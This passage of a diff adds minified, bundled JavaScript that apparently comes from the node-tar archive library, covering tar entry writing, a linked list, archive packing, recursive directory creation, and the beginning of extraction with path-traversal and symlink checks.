+        this.remain = t.size, this.blockRemain = t.startBlockSize, this.onWriteEntry?.(this), this.header = new F({ path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, mode: this.mode, uid: this.portable ? void 0 : this.uid, gid: this.portable ? void 0 : this.gid, size: this.size, mtime: this.noMtime ? void 0 : this.mtime, type: this.type, uname: this.portable ? void 0 : this.uname, atime: this.portable ? void 0 : this.atime, ctime: this.portable ? void 0 : this.ctime }), n && this.warn("TAR_ENTRY_INFO", `stripping ${n} from absolute path`, { entry: this, path: n + this.path }), this.header.encode() && !this.noPax && super.write(new ft({ atime: this.portable ? void 0 : this.atime, ctime: this.portable ? void 0 : this.ctime, gid: this.portable ? void 0 : this.gid, mtime: this.noMtime ? void 0 : this.mtime, path: this[q](this.path), linkpath: this.type === "Link" && this.linkpath !== void 0 ? this[q](this.linkpath) : this.linkpath, size: this.size, uid: this.portable ? void 0 : this.uid, uname: this.portable ? void 0 : this.uname, dev: this.portable ? void 0 : this.readEntry.dev, ino: this.portable ? void 0 : this.readEntry.ino, nlink: this.portable ? void 0 : this.readEntry.nlink }).encode());
+        let o = this.header?.block;
+        if (!o) throw new Error("failed to encode header");
+        super.write(o), t.pipe(this);
+      }
+      [q](t) {
+        return rr(t, this.prefix);
+      }
+      [ri](t) {
+        return Ji(t, this.type === "Directory", this.portable);
+      }
+      write(t, e, i) {
+        typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, typeof e == "string" ? e : "utf8"));
+        let r = t.length;
+        if (r > this.blockRemain) throw new Error("writing more to entry than is appropriate");
+        return this.blockRemain -= r, super.write(t, i);
+      }
+      end(t, e, i) {
+        return this.blockRemain && super.write(Buffer.alloc(this.blockRemain)), typeof t == "function" && (i = t, e = void 0, t = void 0), typeof e == "function" && (i = e, e = void 0), typeof t == "string" && (t = Buffer.from(t, e ?? "utf8")), i && this.once("finish", i), t ? super.end(t, i) : super.end(i), this;
+      }
+    };
+    Gn = (s3) => s3.isFile() ? "File" : s3.isDirectory() ? "Directory" : s3.isSymbolicLink() ? "SymbolicLink" : "Unsupported";
+    hi = class s2 {
+      tail;
+      head;
+      length = 0;
+      static create(t = []) {
+        return new s2(t);
+      }
+      constructor(t = []) {
+        for (let e of t) this.push(e);
+      }
+      *[Symbol.iterator]() {
+        for (let t = this.head; t; t = t.next) yield t.value;
+      }
+      removeNode(t) {
+        if (t.list !== this) throw new Error("removing node which does not belong to this list");
+        let e = t.next, i = t.prev;
+        return e && (e.prev = i), i && (i.next = e), t === this.head && (this.head = e), t === this.tail && (this.tail = i), this.length--, t.next = void 0, t.prev = void 0, t.list = void 0, e;
+      }
+      unshiftNode(t) {
+        if (t === this.head) return;
+        t.list && t.list.removeNode(t);
+        let e = this.head;
+        t.list = this, t.next = e, e && (e.prev = t), this.head = t, this.tail || (this.tail = t), this.length++;
+      }
+      pushNode(t) {
+        if (t === this.tail) return;
+        t.list && t.list.removeNode(t);
+        let e = this.tail;
+        t.list = this, t.prev = e, e && (e.next = t), this.tail = t, this.head || (this.head = t), this.length++;
+      }
+      push(...t) {
+        for (let e = 0, i = t.length; e < i; e++) Yn(this, t[e]);
+        return this.length;
+      }
+      unshift(...t) {
+        for (var e = 0, i = t.length; e < i; e++) Kn(this, t[e]);
+        return this.length;
+      }
+      pop() {
+        if (!this.tail) return;
+        let t = this.tail.value, e = this.tail;
+        return this.tail = this.tail.prev, this.tail ? this.tail.next = void 0 : this.head = void 0, e.list = void 0, this.length--, t;
+      }
+      shift() {
+        if (!this.head) return;
+        let t = this.head.value, e = this.head;
+        return this.head = this.head.next, this.head ? this.head.prev = void 0 : this.tail = void 0, e.list = void 0, this.length--, t;
+      }
+      forEach(t, e) {
+        e = e || this;
+        for (let i = this.head, r = 0; i; r++) t.call(e, i.value, r, this), i = i.next;
+      }
+      forEachReverse(t, e) {
+        e = e || this;
+        for (let i = this.tail, r = this.length - 1; i; r--) t.call(e, i.value, r, this), i = i.prev;
+      }
+      get(t) {
+        let e = 0, i = this.head;
+        for (; i && e < t; e++) i = i.next;
+        if (e === t && i) return i.value;
+      }
+      getReverse(t) {
+        let e = 0, i = this.tail;
+        for (; i && e < t; e++) i = i.prev;
+        if (e === t && i) return i.value;
+      }
+      map(t, e) {
+        e = e || this;
+        let i = new s2();
+        for (let r = this.head; r; ) i.push(t.call(e, r.value, this)), r = r.next;
+        return i;
+      }
+      mapReverse(t, e) {
+        e = e || this;
+        var i = new s2();
+        for (let r = this.tail; r; ) i.push(t.call(e, r.value, this)), r = r.prev;
+        return i;
+      }
+      reduce(t, e) {
+        let i, r = this.head;
+        if (arguments.length > 1) i = e;
+        else if (this.head) r = this.head.next, i = this.head.value;
+        else throw new TypeError("Reduce of empty list with no initial value");
+        for (var n = 0; r; n++) i = t(i, r.value, n), r = r.next;
+        return i;
+      }
+      reduceReverse(t, e) {
+        let i, r = this.tail;
+        if (arguments.length > 1) i = e;
+        else if (this.tail) r = this.tail.prev, i = this.tail.value;
+        else throw new TypeError("Reduce of empty list with no initial value");
+        for (let n = this.length - 1; r; n--) i = t(i, r.value, n), r = r.prev;
+        return i;
+      }
+      toArray() {
+        let t = new Array(this.length);
+        for (let e = 0, i = this.head; i; e++) t[e] = i.value, i = i.next;
+        return t;
+      }
+      toArrayReverse() {
+        let t = new Array(this.length);
+        for (let e = 0, i = this.tail; i; e++) t[e] = i.value, i = i.prev;
+        return t;
+      }
+      slice(t = 0, e = this.length) {
+        e < 0 && (e += this.length), t < 0 && (t += this.length);
+        let i = new s2();
+        if (e < t || e < 0) return i;
+        t < 0 && (t = 0), e > this.length && (e = this.length);
+        let r = this.head, n = 0;
+        for (n = 0; r && n < t; n++) r = r.next;
+        for (; r && n < e; n++, r = r.next) i.push(r.value);
+        return i;
+      }
+      sliceReverse(t = 0, e = this.length) {
+        e < 0 && (e += this.length), t < 0 && (t += this.length);
+        let i = new s2();
+        if (e < t || e < 0) return i;
+        t < 0 && (t = 0), e > this.length && (e = this.length);
+        let r = this.length, n = this.tail;
+        for (; n && r > e; r--) n = n.prev;
+        for (; n && r > t; r--, n = n.prev) i.push(n.value);
+        return i;
+      }
+      splice(t, e = 0, ...i) {
+        t > this.length && (t = this.length - 1), t < 0 && (t = this.length + t);
+        let r = this.head;
+        for (let o = 0; r && o < t; o++) r = r.next;
+        let n = [];
+        for (let o = 0; r && o < e; o++) n.push(r.value), r = this.removeNode(r);
+        r ? r !== this.tail && (r = r.prev) : r = this.tail;
+        for (let o of i) r = Zn(this, r, o);
+        return n;
+      }
+      reverse() {
+        let t = this.head, e = this.tail;
+        for (let i = t; i; i = i.prev) {
+          let r = i.prev;
+          i.prev = i.next, i.next = r;
+        }
+        return this.head = e, this.tail = t, this;
+      }
+    };
+    ue = class {
+      list;
+      next;
+      prev;
+      value;
+      constructor(t, e, i, r) {
+        this.list = r, this.value = t, e ? (e.next = this, this.prev = e) : this.prev = void 0, i ? (i.prev = this, this.next = i) : this.next = void 0;
+      }
+    };
+    pi = class {
+      path;
+      absolute;
+      entry;
+      stat;
+      readdir;
+      pending = false;
+      pendingLink = false;
+      ignore = false;
+      piped = false;
+      constructor(t, e) {
+        this.path = t || "./", this.absolute = e;
+      }
+    };
+    nr = Buffer.alloc(1024);
+    li = Symbol("onStat");
+    me = Symbol("ended");
+    W = Symbol("queue");
+    pe = Symbol("pendingLinks");
+    Et = Symbol("current");
+    Ft = Symbol("process");
+    Ee = Symbol("processing");
+    ai = Symbol("processJob");
+    G = Symbol("jobs");
+    ls = Symbol("jobDone");
+    ci = Symbol("addFSEntry");
+    or = Symbol("addTarEntry");
+    ds = Symbol("stat");
+    us = Symbol("readdir");
+    fi = Symbol("onreaddir");
+    di = Symbol("pipe");
+    hr = Symbol("entry");
+    cs = Symbol("entryOpt");
+    ui = Symbol("writeEntryClass");
+    lr = Symbol("write");
+    fs = Symbol("ondrain");
+    wt = class extends A {
+      sync = false;
+      opt;
+      cwd;
+      maxReadSize;
+      preservePaths;
+      strict;
+      noPax;
+      prefix;
+      linkCache;
+      statCache;
+      file;
+      portable;
+      zip;
+      readdirCache;
+      noDirRecurse;
+      follow;
+      noMtime;
+      mtime;
+      filter;
+      jobs;
+      [ui];
+      onWriteEntry;
+      [W];
+      [pe] = /* @__PURE__ */ new Map();
+      [G] = 0;
+      [Ee] = false;
+      [me] = false;
+      constructor(t = {}) {
+        if (super(), this.opt = t, this.file = t.file || "", this.cwd = t.cwd || process.cwd(), this.maxReadSize = t.maxReadSize, this.preservePaths = !!t.preservePaths, this.strict = !!t.strict, this.noPax = !!t.noPax, this.prefix = f(t.prefix || ""), this.linkCache = t.linkCache || /* @__PURE__ */ new Map(), this.statCache = t.statCache || /* @__PURE__ */ new Map(), this.readdirCache = t.readdirCache || /* @__PURE__ */ new Map(), this.onWriteEntry = t.onWriteEntry, this[ui] = de, typeof t.onwarn == "function" && this.on("warn", t.onwarn), this.portable = !!t.portable, t.gzip || t.brotli || t.zstd) {
+          if ((t.gzip ? 1 : 0) + (t.brotli ? 1 : 0) + (t.zstd ? 1 : 0) > 1) throw new TypeError("gzip, brotli, zstd are mutually exclusive");
+          if (t.gzip && (typeof t.gzip != "object" && (t.gzip = {}), this.portable && (t.gzip.portable = true), this.zip = new ze(t.gzip)), t.brotli && (typeof t.brotli != "object" && (t.brotli = {}), this.zip = new We(t.brotli)), t.zstd && (typeof t.zstd != "object" && (t.zstd = {}), this.zip = new Ye(t.zstd)), !this.zip) throw new Error("impossible");
+          let e = this.zip;
+          e.on("data", (i) => super.write(i)), e.on("end", () => super.end()), e.on("drain", () => this[fs]()), this.on("resume", () => e.resume());
+        } else this.on("drain", this[fs]);
+        this.noDirRecurse = !!t.noDirRecurse, this.follow = !!t.follow, this.noMtime = !!t.noMtime, t.mtime && (this.mtime = t.mtime), this.filter = typeof t.filter == "function" ? t.filter : () => true, this[W] = new hi(), this[G] = 0, this.jobs = Number(t.jobs) || 4, this[Ee] = false, this[me] = false;
+      }
+      [lr](t) {
+        return super.write(t);
+      }
+      add(t) {
+        return this.write(t), this;
+      }
+      end(t, e, i) {
+        return typeof t == "function" && (i = t, t = void 0), typeof e == "function" && (i = e, e = void 0), t && this.add(t), this[me] = true, this[Ft](), i && i(), this;
+      }
+      write(t) {
+        if (this[me]) throw new Error("write after end");
+        return typeof t == "string" ? this[ci](t) : this[or](t), this.flowing;
+      }
+      [or](t) {
+        let e = f(ar.resolve(this.cwd, t.path));
+        if (!this.filter(t.path, t)) t.resume();
+        else {
+          let i = new pi(t.path, e);
+          i.entry = new oi(t, this[cs](i)), i.entry.on("end", () => this[ls](i)), this[G] += 1, this[W].push(i);
+        }
+        this[Ft]();
+      }
+      [ci](t) {
+        let e = f(ar.resolve(this.cwd, t));
+        this[W].push(new pi(t, e)), this[Ft]();
+      }
+      [ds](t) {
+        t.pending = true, this[G] += 1;
+        let e = this.follow ? "stat" : "lstat";
+        mi[e](t.absolute, (i, r) => {
+          t.pending = false, this[G] -= 1, i ? this.emit("error", i) : this[li](t, r);
+        });
+      }
+      [li](t, e) {
+        if (this.statCache.set(t.absolute, e), t.stat = e, !this.filter(t.path, e)) t.ignore = true;
+        else if (e.isFile() && e.nlink > 1 && !this.linkCache.get(`${e.dev}:${e.ino}`) && !this.sync) if (t === this[Et]) this[ai](t);
+        else {
+          let i = `${e.dev}:${e.ino}`, r = this[pe].get(i);
+          r ? r.push(t) : this[pe].set(i, [t]), t.pendingLink = true, t.pending = true;
+        }
+        this[Ft]();
+      }
+      [us](t) {
+        t.pending = true, this[G] += 1, mi.readdir(t.absolute, (e, i) => {
+          if (t.pending = false, this[G] -= 1, e) return this.emit("error", e);
+          this[fi](t, i);
+        });
+      }
+      [fi](t, e) {
+        this.readdirCache.set(t.absolute, e), t.readdir = e, this[Ft]();
+      }
+      [Ft]() {
+        if (!this[Ee]) {
+          this[Ee] = true;
+          for (let t = this[W].head; t && this[G] < this.jobs; t = t.next) if (this[ai](t.value), t.value.ignore) {
+            let e = t.next;
+            this[W].removeNode(t), t.next = e;
+          }
+          this[Ee] = false, this[me] && this[W].length === 0 && this[G] === 0 && (this.zip ? this.zip.end(nr) : (super.write(nr), super.end()));
+        }
+      }
+      get [Et]() {
+        return this[W] && this[W].head && this[W].head.value;
+      }
+      [ls](t) {
+        this[W].shift(), this[G] -= 1;
+        let { stat: e } = t;
+        if (e && e.isFile() && e.nlink > 1) {
+          let i = `${e.dev}:${e.ino}`, r = this[pe].get(i);
+          if (r) {
+            this[pe].delete(i);
+            for (let n of r) n.pending = false, this[ai](n);
+          }
+        }
+        this[Ft]();
+      }
+      [ai](t) {
+        if (t.pending && t.pendingLink && t === this[Et] && (t.pending = false, t.pendingLink = false), !t.pending) {
+          if (t.entry) {
+            t === this[Et] && !t.piped && this[di](t);
+            return;
+          }
+          if (!t.stat) {
+            let e = this.statCache.get(t.absolute);
+            e ? this[li](t, e) : this[ds](t);
+          }
+          if (t.stat && !t.ignore) {
+            if (!this.noDirRecurse && t.stat.isDirectory() && !t.readdir) {
+              let e = this.readdirCache.get(t.absolute);
+              if (e ? this[fi](t, e) : this[us](t), !t.readdir) return;
+            }
+            if (t.entry = this[hr](t), !t.entry) {
+              t.ignore = true;
+              return;
+            }
+            t === this[Et] && !t.piped && this[di](t);
+          }
+        }
+      }
+      [cs](t) {
+        return { onwarn: (e, i, r) => this.warn(e, i, r), noPax: this.noPax, cwd: this.cwd, absolute: t.absolute, preservePaths: this.preservePaths, maxReadSize: this.maxReadSize, strict: this.strict, portable: this.portable, linkCache: this.linkCache, statCache: this.statCache, noMtime: this.noMtime, mtime: this.mtime, prefix: this.prefix, onWriteEntry: this.onWriteEntry };
+      }
+      [hr](t) {
+        this[G] += 1;
+        try {
+          return new this[ui](t.path, this[cs](t)).on("end", () => this[ls](t)).on("error", (i) => this.emit("error", i));
+        } catch (e) {
+          this.emit("error", e);
+        }
+      }
+      [fs]() {
+        this[Et] && this[Et].entry && this[Et].entry.resume();
+      }
+      [di](t) {
+        t.piped = true, t.readdir && t.readdir.forEach((r) => {
+          let n = t.path, o = n === "./" ? "" : n.replace(/\/*$/, "/");
+          this[ci](o + r);
+        });
+        let e = t.entry, i = this.zip;
+        if (!e) throw new Error("cannot pipe without source");
+        i ? e.on("data", (r) => {
+          i.write(r) || e.pause();
+        }) : e.on("data", (r) => {
+          super.write(r) || e.pause();
+        });
+      }
+      pause() {
+        return this.zip && this.zip.pause(), super.pause();
+      }
+      warn(t, e, i = {}) {
+        Dt(this, t, e, i);
+      }
+    };
+    kt = class extends wt {
+      sync = true;
+      constructor(t) {
+        super(t), this[ui] = ni;
+      }
+      pause() {
+      }
+      resume() {
+      }
+      [ds](t) {
+        let e = this.follow ? "statSync" : "lstatSync";
+        this[li](t, mi[e](t.absolute));
+      }
+      [us](t) {
+        this[fi](t, mi.readdirSync(t.absolute));
+      }
+      [di](t) {
+        let e = t.entry, i = this.zip;
+        if (t.readdir && t.readdir.forEach((r) => {
+          let n = t.path, o = n === "./" ? "" : n.replace(/\/*$/, "/");
+          this[ci](o + r);
+        }), !e) throw new Error("Cannot pipe without source");
+        i ? e.on("data", (r) => {
+          i.write(r);
+        }) : e.on("data", (r) => {
+          super[lr](r);
+        });
+      }
+    };
+    Vn = (s3, t) => {
+      let e = new kt(s3), i = new Wt(s3.file, { mode: s3.mode || 438 });
+      e.pipe(i), fr(e, t);
+    };
+    $n = (s3, t) => {
+      let e = new wt(s3), i = new et(s3.file, { mode: s3.mode || 438 });
+      e.pipe(i);
+      let r = new Promise((n, o) => {
+        i.on("error", o), i.on("close", n), e.on("error", o);
+      });
+      return dr(e, t).catch((n) => e.emit("error", n)), r;
+    };
+    fr = (s3, t) => {
+      t.forEach((e) => {
+        e.charAt(0) === "@" ? Ct({ file: cr.resolve(s3.cwd, e.slice(1)), sync: true, noResume: true, onReadEntry: (i) => s3.add(i) }) : s3.add(e);
+      }), s3.end();
+    };
+    dr = async (s3, t) => {
+      for (let e of t) e.charAt(0) === "@" ? await Ct({ file: cr.resolve(String(s3.cwd), e.slice(1)), noResume: true, onReadEntry: (i) => {
+        s3.add(i);
+      } }) : s3.add(e);
+      s3.end();
+    };
+    Xn = (s3, t) => {
+      let e = new kt(s3);
+      return fr(e, t), e;
+    };
+    qn = (s3, t) => {
+      let e = new wt(s3);
+      return dr(e, t).catch((i) => e.emit("error", i)), e;
+    };
+    Qn = K(Vn, $n, Xn, qn, (s3, t) => {
+      if (!t?.length) throw new TypeError("no paths specified to add to archive");
+    });
+    Jn = process.env.__FAKE_PLATFORM__ || process.platform;
+    Er = Jn === "win32";
+    ({ O_CREAT: wr, O_NOFOLLOW: ur, O_TRUNC: Sr, O_WRONLY: yr } = pr.constants);
+    Rr = Number(process.env.__FAKE_FS_O_FILENAME__) || pr.constants.UV_FS_O_FILEMAP || 0;
+    jn = Er && !!Rr;
+    to = 512 * 1024;
+    eo = Rr | Sr | wr | yr;
+    mr = !Er && typeof ur == "number" ? ur | Sr | wr | yr : null;
+    ms = mr !== null ? () => mr : jn ? (s3) => s3 < to ? eo : "w" : () => "w";
+    ps = (s3, t, e) => {
+      try {
+        return wi.lchownSync(s3, t, e);
+      } catch (i) {
+        if (i?.code !== "ENOENT") throw i;
+      }
+    };
+    Ei = (s3, t, e, i) => {
+      wi.lchown(s3, t, e, (r) => {
+        i(r && r?.code !== "ENOENT" ? r : null);
+      });
+    };
+    io = (s3, t, e, i, r) => {
+      if (t.isDirectory()) Es(we.resolve(s3, t.name), e, i, (n) => {
+        if (n) return r(n);
+        let o = we.resolve(s3, t.name);
+        Ei(o, e, i, r);
+      });
+      else {
+        let n = we.resolve(s3, t.name);
+        Ei(n, e, i, r);
+      }
+    };
+    Es = (s3, t, e, i) => {
+      wi.readdir(s3, { withFileTypes: true }, (r, n) => {
+        if (r) {
+          if (r.code === "ENOENT") return i();
+          if (r.code !== "ENOTDIR" && r.code !== "ENOTSUP") return i(r);
+        }
+        if (r || !n.length) return Ei(s3, t, e, i);
+        let o = n.length, h = null, a = (l) => {
+          if (!h) {
+            if (l) return i(h = l);
+            if (--o === 0) return Ei(s3, t, e, i);
+          }
+        };
+        for (let l of n) io(s3, l, t, e, a);
+      });
+    };
+    so = (s3, t, e, i) => {
+      t.isDirectory() && ws(we.resolve(s3, t.name), e, i), ps(we.resolve(s3, t.name), e, i);
+    };
+    ws = (s3, t, e) => {
+      let i;
+      try {
+        i = wi.readdirSync(s3, { withFileTypes: true });
+      } catch (r) {
+        let n = r;
+        if (n?.code === "ENOENT") return;
+        if (n?.code === "ENOTDIR" || n?.code === "ENOTSUP") return ps(s3, t, e);
+        throw n;
+      }
+      for (let r of i) so(s3, r, t, e);
+      return ps(s3, t, e);
+    };
+    Se = class extends Error {
+      path;
+      code;
+      syscall = "chdir";
+      constructor(t, e) {
+        super(`${e}: Cannot cd into '${t}'`), this.path = t, this.code = e;
+      }
+      get name() {
+        return "CwdError";
+      }
+    };
+    St = class extends Error {
+      path;
+      symlink;
+      syscall = "symlink";
+      code = "TAR_SYMLINK_ERROR";
+      constructor(t, e) {
+        super("TAR_SYMLINK_ERROR: Cannot extract through symbolic link"), this.symlink = t, this.path = e;
+      }
+      get name() {
+        return "SymlinkError";
+      }
+    };
+    no = (s3, t) => {
+      k.stat(s3, (e, i) => {
+        (e || !i.isDirectory()) && (e = new Se(s3, e?.code || "ENOTDIR")), t(e);
+      });
+    };
+    gr = (s3, t, e) => {
+      s3 = f(s3);
+      let i = t.umask ?? 18, r = t.mode | 448, n = (r & i) !== 0, o = t.uid, h = t.gid, a = typeof o == "number" && typeof h == "number" && (o !== t.processUid || h !== t.processGid), l = t.preserve, c = t.unlink, d = f(t.cwd), y = (E, x) => {
+        E ? e(E) : x && a ? Es(x, o, h, (Le) => y(Le)) : n ? k.chmod(s3, r, e) : e();
+      };
+      if (s3 === d) return no(s3, y);
+      if (l) return ro.mkdir(s3, { mode: r, recursive: true }).then((E) => y(null, E ?? void 0), y);
+      let D = f(Si.relative(d, s3)).split("/");
+      Ss(d, D, r, c, d, void 0, y);
+    };
+    Ss = (s3, t, e, i, r, n, o) => {
+      if (t.length === 0) return o(null, n);
+      let h = t.shift(), a = f(Si.resolve(s3 + "/" + h));
+      k.mkdir(a, e, br(a, t, e, i, r, n, o));
+    };
+    br = (s3, t, e, i, r, n, o) => (h) => {
+      h ? k.lstat(s3, (a, l) => {
+        if (a) a.path = a.path && f(a.path), o(a);
+        else if (l.isDirectory()) Ss(s3, t, e, i, r, n, o);
+        else if (i) k.unlink(s3, (c) => {
+          if (c) return o(c);
+          k.mkdir(s3, e, br(s3, t, e, i, r, n, o));
+        });
+        else {
+          if (l.isSymbolicLink()) return o(new St(s3, s3 + "/" + t.join("/")));
+          o(h);
+        }
+      }) : (n = n || s3, Ss(s3, t, e, i, r, n, o));
+    };
+    oo = (s3) => {
+      let t = false, e;
+      try {
+        t = k.statSync(s3).isDirectory();
+      } catch (i) {
+        e = i?.code;
+      } finally {
+        if (!t) throw new Se(s3, e ?? "ENOTDIR");
+      }
+    };
+    _r = (s3, t) => {
+      s3 = f(s3);
+      let e = t.umask ?? 18, i = t.mode | 448, r = (i & e) !== 0, n = t.uid, o = t.gid, h = typeof n == "number" && typeof o == "number" && (n !== t.processUid || o !== t.processGid), a = t.preserve, l = t.unlink, c = f(t.cwd), d = (E) => {
+        E && h && ws(E, n, o), r && k.chmodSync(s3, i);
+      };
+      if (s3 === c) return oo(c), d();
+      if (a) return d(k.mkdirSync(s3, { mode: i, recursive: true }) ?? void 0);
+      let T = f(Si.relative(c, s3)).split("/"), D;
+      for (let E = T.shift(), x = c; E && (x += "/" + E); E = T.shift()) {
+        x = f(Si.resolve(x));
+        try {
+          k.mkdirSync(x, i), D = D || x;
+        } catch {
+          let Le = k.lstatSync(x);
+          if (Le.isDirectory()) continue;
+          if (l) {
+            k.unlinkSync(x), k.mkdirSync(x, i), D = D || x;
+            continue;
+          } else if (Le.isSymbolicLink()) return new St(x, x + "/" + T.join("/"));
+        }
+      }
+      return d(D);
+    };
+    ys = /* @__PURE__ */ Object.create(null);
+    Or = 1e4;
+    Vt = /* @__PURE__ */ new Set();
+    Tr = (s3) => {
+      Vt.has(s3) ? Vt.delete(s3) : ys[s3] = s3.normalize("NFD").toLocaleLowerCase("en").toLocaleUpperCase("en"), Vt.add(s3);
+      let t = ys[s3], e = Vt.size - Or;
+      if (e > Or / 10) {
+        for (let i of Vt) if (Vt.delete(i), delete ys[i], --e <= 0) break;
+      }
+      return t;
+    };
+    ho = process.env.TESTING_TAR_FAKE_PLATFORM || process.platform;
+    ao = ho === "win32";
+    lo = (s3) => s3.split("/").slice(0, -1).reduce((e, i) => {
+      let r = e.at(-1);
+      return r !== void 0 && (i = xr(r, i)), e.push(i || "/"), e;
+    }, []);
+    yi = class {
+      #t = /* @__PURE__ */ new Map();
+      #i = /* @__PURE__ */ new Map();
+      #s = /* @__PURE__ */ new Set();
+      reserve(t, e) {
+        t = ao ? ["win32 parallelization disabled"] : t.map((r) => mt(xr(Tr(r))));
+        let i = new Set(t.map((r) => lo(r)).reduce((r, n) => r.concat(n)));
+        this.#i.set(e, { dirs: i, paths: t });
+        for (let r of t) {
+          let n = this.#t.get(r);
+          n ? n.push(e) : this.#t.set(r, [e]);
+        }
+        for (let r of i) {
+          let n = this.#t.get(r);
+          if (!n) this.#t.set(r, [/* @__PURE__ */ new Set([e])]);
+          else {
+            let o = n.at(-1);
+            o instanceof Set ? o.add(e) : n.push(/* @__PURE__ */ new Set([e]));
+          }
+        }
+        return this.#r(e);
+      }
+      #n(t) {
+        let e = this.#i.get(t);
+        if (!e) throw new Error("function does not have any path reservations");
+        return { paths: e.paths.map((i) => this.#t.get(i)), dirs: [...e.dirs].map((i) => this.#t.get(i)) };
+      }
+      check(t) {
+        let { paths: e, dirs: i } = this.#n(t);
+        return e.every((r) => r && r[0] === t) && i.every((r) => r && r[0] instanceof Set && r[0].has(t));
+      }
+      #r(t) {
+        return this.#s.has(t) || !this.check(t) ? false : (this.#s.add(t), t(() => this.#e(t)), true);
+      }
+      #e(t) {
+        if (!this.#s.has(t)) return false;
+        let e = this.#i.get(t);
+        if (!e) throw new Error("invalid reservation");
+        let { paths: i, dirs: r } = e, n = /* @__PURE__ */ new Set();
+        for (let o of i) {
+          let h = this.#t.get(o);
+          if (!h || h?.[0] !== t) continue;
+          let a = h[1];
+          if (!a) {
+            this.#t.delete(o);
+            continue;
+          }
+          if (h.shift(), typeof a == "function") n.add(a);
+          else for (let l of a) n.add(l);
+        }
+        for (let o of r) {
+          let h = this.#t.get(o), a = h?.[0];
+          if (!(!h || !(a instanceof Set))) if (a.size === 1 && h.length === 1) {
+            this.#t.delete(o);
+            continue;
+          } else if (a.size === 1) {
+            h.shift();
+            let l = h[0];
+            typeof l == "function" && n.add(l);
+          } else a.delete(t);
+        }
+        return this.#s.delete(t), n.forEach((o) => this.#r(o)), true;
+      }
+    };
+    Lr = () => process.umask();
+    Dr = Symbol("onEntry");
+    _s = Symbol("checkFs");
+    Nr = Symbol("checkFs2");
+    Os = Symbol("isReusable");
+    P = Symbol("makeFs");
+    Ts = Symbol("file");
+    xs = Symbol("directory");
+    gi = Symbol("link");
+    Ar = Symbol("symlink");
+    Ir = Symbol("hardlink");
+    Re = Symbol("ensureNoSymlink");
+    Cr = Symbol("unsupported");
+    Fr = Symbol("checkPath");
+    Rs = Symbol("stripAbsolutePath");
+    yt = Symbol("mkdir");
+    O = Symbol("onError");
+    Ri = Symbol("pending");
+    kr = Symbol("pend");
+    $t = Symbol("unpend");
+    gs = Symbol("ended");
+    bs = Symbol("maybeClose");
+    Ls = Symbol("skip");
+    ge = Symbol("doChown");
+    be = Symbol("uid");
+    _e = Symbol("gid");
+    Oe = Symbol("checkedCwd");
+    fo = process.env.TESTING_TAR_FAKE_PLATFORM || process.platform;
+    Te = fo === "win32";
+    uo = 1024;
+    mo = (s3, t) => {
+      if (!Te) return u.unlink(s3, t);
+      let e = s3 + ".DELETE." + Mr(16).toString("hex");
+      u.rename(s3, e, (i) => {
+        if (i) return t(i);
+        u.unlink(e, t);
+      });
+    };
+    po = (s3) => {
+      if (!Te) return u.unlinkSync(s3);
+      let t = s3 + ".DELETE." + Mr(16).toString("hex");
+      u.renameSync(s3, t), u.unlinkSync(t);
+    };
+    vr = (s3, t, e) => s3 !== void 0 && s3 === s3 >>> 0 ? s3 : t !== void 0 && t === t >>> 0 ? t : e;
+    Xt = class extends rt {
+      [gs] = false;
+      [Oe] = false;
+      [Ri] = 0;
+      reservations = new yi();
+      transform;
+      writable = true;
+      readable = false;
+      uid;
+      gid;
+      setOwner;
+      preserveOwner;
+      processGid;
+      processUid;
+      maxDepth;
+      forceChown;
+      win32;
+      newer;
+      keep;
+      noMtime;
+      preservePaths;
+      unlink;
+      cwd;
+      strip;
+      processUmask;
+      umask;
+      dmode;
+      fmode;
+      chmod;
+      constructor(t = {}) {
+        if (t.ondone = () => {
+          this[gs] = true, this[bs]();
+        }, super(t), this.transform = t.transform, this.chmod = !!t.chmod, typeof t.uid == "number" || typeof t.gid == "number") {
+          if (typeof t.uid != "number" || typeof t.gid != "number") throw new TypeError("cannot set owner without number uid and gid");
+          if (t.preserveOwner) throw new TypeError("cannot preserve owner in archive and also set owner explicitly");
+          this.uid = t.uid, this.gid = t.gid, this.setOwner = true;
+        } else this.uid = void 0, this.gid = void 0, this.setOwner = false;
+        this.preserveOwner = t.preserveOwner === void 0 && typeof t.uid != "number" ? process.getuid?.() === 0 : !!t.preserveOwner, this.processUid = (this.preserveOwner || this.setOwner) && process.getuid ? process.getuid() : void 0, this.processGid = (this.preserveOwner || this.setOwner) && process.getgid ? process.getgid() : void 0, this.maxDepth = typeof t.maxDepth == "number" ? t.maxDepth : uo, this.forceChown = t.forceChown === true, this.win32 = !!t.win32 || Te, this.newer = !!t.newer, this.keep = !!t.keep, this.noMtime = !!t.noMtime, this.preservePaths = !!t.preservePaths, this.unlink = !!t.unlink, this.cwd = f(R.resolve(t.cwd || process.cwd())), this.strip = Number(t.strip) || 0, this.processUmask = this.chmod ? typeof t.processUmask == "number" ? t.processUmask : Lr() : 0, this.umask = typeof t.umask == "number" ? t.umask : this.processUmask, this.dmode = t.dmode || 511 & ~this.umask, this.fmode = t.fmode || 438 & ~this.umask, this.on("entry", (e) => this[Dr](e));
+      }
+      warn(t, e, i = {}) {
+        return (t === "TAR_BAD_ARCHIVE" || t === "TAR_ABORT") && (i.recoverable = false), super.warn(t, e, i);
+      }
+      [bs]() {
+        this[gs] && this[Ri] === 0 && (this.emit("prefinish"), this.emit("finish"), this.emit("end"));
+      }
+      [Rs](t, e) {
+        let i = t[e], { type: r } = t;
+        if (!i || this.preservePaths) return true;
+        let [n, o] = ce(i), h = o.replaceAll(/\\/g, "/").split("/");
+        if (h.includes("..") || Te && /^[a-z]:\.\.$/i.test(h[0] ?? "")) {
+          if (e === "path" || r === "Link") return this.warn("TAR_ENTRY_ERROR", `${e} contains '..'`, { entry: t, [e]: i }), false;
+          let a = R.posix.dirname(t.path), l = R.posix.normalize(R.posix.join(a, h.join("/")));
+          if (l.startsWith("../") || l === "..") return this.warn("TAR_ENTRY_ERROR", `${e} escapes extraction directory`, { entry: t, [e]: i }), false;
+        }
+        return n && (t[e] = String(o), this.warn("TAR_ENTRY_INFO", `stripping ${n} from absolute ${e}`, { entry: t, [e]: i })), true;
+      }
+      [Fr](t) {
+        let e = f(t.path), i = e.split("/");
+        if (this.strip) {
+          if (i.length < this.strip) return false;
+          if (t.type === "Link") {
+            let r = f(String(t.linkpath)).split("/");
+            if (r.length >= this.strip) t.linkpath = r.slice(this.strip).join("/");
+            else return false;
+          }
